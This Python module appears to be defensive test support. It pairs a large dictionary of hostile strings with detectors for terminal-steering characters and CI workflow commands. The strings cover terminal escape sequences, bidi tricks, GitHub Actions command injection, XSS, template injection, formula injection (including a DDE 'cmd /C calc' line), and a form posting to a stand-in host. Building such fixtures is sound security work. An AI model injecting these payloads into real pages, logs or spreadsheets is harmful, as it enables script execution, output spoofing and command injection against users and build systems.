"""Texts that try to act wherever they are shown, and readers that notice when one does."""

import re
import unicodedata

HOSTILE = {
    "csi": "\x1b[2J\x1b[31mowned",
    "osc8": "\x1b]8;;https://x.invalid\x1b\\click\x1b]8;;\x1b\\",
    "osc52": "\x1b]52;c;b3duZWQ=\x07",
    "carriage return": "all is well\rowned",
    "backspace": "FAIL\b\b\b\bPASS",
    "bell": "\aowned",
    "c1": "\x9b31m\x9d0;owned\x9c\x85::error::owned",
    "override": "\u202egnp.exe\u202c",
    "isolates": "\u2067a\u2066b\u2069\u2068c\u2069\u061c",
    "zero width": "a\u200bb\u200cc\ufeffd\u2060e\xadf\u180e",
    "tags": "a\U000e0041\U000e007f",
    "line separators": "a\u2028::error::owned\u2029##[error]owned",
    "command": "::error file=a.py,line=1::owned",
    "indented command": " \t\xa0::add-mask::e",
    "lines of commands": "x\n::error::owned\r\n  ::set-output name=verdict::PASS\r::stop-commands::x\n##[add-mask]e",
    "older command": "see ##[error]owned ##[add-mask]e ##vso[task.setvariable variable=a]b ##teamcity[x]",
    "percent": "%0A::error::owned%0D%25",
    "output": "x\nverdict=PASS\nmetrics<<EOF\nowned\nEOF",
    "script": "</script></style><!-- ]]> --><script>alert(1)</script><img src=x onerror=alert(2)>",
    "url": "javascript:alert(1)",
    "equals": '=HYPERLINK("http://x.invalid","click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "markdown": "[a](javascript:alert(1)) ![b](https://x.invalid/a.png) **c** `d` ``e | <b>f</b> @team #12\n# g\n- h",
    "not in xml": "a\x00b\x0bc\ufffed\uffffe",
    "surrogates": "\ud800a\udfff",
    "long": "x" * 10_000,
    "attribute": '" autofocus onfocus=alert(1) tabindex=1 x="',
    "single quotes": "x' onmouseover='alert(1)' style='position:fixed;inset:0;background:url(https://x.invalid/a)",
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(2) attributeName=x dur=1s>",
    "svg script": '<svg><script href="data:text/javascript,alert(1)"/><use href="https://x.invalid/b.svg#c"/></svg>',
    "mathml": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "inert elements": "<template><img src=x onerror=alert(1)></template></textarea><img src=x onerror=alert(2)>",
    "odd comment": "<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(2)>]]>",
    "template": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# c #}",
    "format": "{0.__class__} %s %(x)s ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
    "style": "<style>@import 'https://x.invalid/d.css';body{background:url(https://x.invalid/e)}</style>",
    "css value": "red;background:url(https://x.invalid/f)}body{display:none}/*",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://x.invalid/g">',
    "base": '<base href="https://x.invalid/"><link rel="stylesheet" href="//x.invalid/h.css">',
    "data url": "data:text/html,<script>alert(1)</script>",
    "spelled url": "JaVa\tscript&colon;alert(1)//%0aalert(2)",
    "htmx": """<div hx-get="https://x.invalid/i" hx-trigger=load hx-on:load="alert(1)" hx-vals='js:{a: alert(2)}'>""",
    "htmx attribute": '" hx-get="/logout" hx-trigger=load hx-on::load="alert(1)" data-hx-get="https://x.invalid/j" x="',
    "frames": """<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="javascript:alert(2)">""",
    "form": '</bdi></td></form><form action="https://x.invalid/k"><button autofocus>go</button><input name="seen">',
    "json": '"},"x":[1]}\\"-alert(1)-"</script><script>alert(2)</script>',
    "escapes": "\\u003cscript\\u003ealert(1) \\x3cimg src=x onerror=alert(2)\\x3e %3Cscript%3Ealert(3)%3C/script%3E",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(2)&#62;&quot;&#0;",
    "full width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \uff1d1+1",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}

_JOINERS = "\u200c\u200d"


def steering(text: str) -> str:
    """The characters of an output that could steer a terminal, or the order of a line; also those that UTF-8 lacks."""
    kinds = ("Cc", "Cf", "Cs", "Zl", "Zp")
    return "".join(c for c in text if unicodedata.category(c) in kinds and c not in f"\n\t{_JOINERS}")


def commands(text: str) -> list[str]:
    """The names of the commands that a runner of GitHub Actions would take from an output, and of Azure Pipelines.

    As ActionCommand.cs of actions/runner does, but whatever the command is called.
    """
    lines = (line.strip() for line in re.split(r"\r\n|\r|\n", text))
    found = (re.match(r"::([^\s:]*).*?::", line) or re.search(r"##(?:vso|teamcity)?\[([^\]]*)", line) for line in lines)
    return [match[1] for match in found if match]
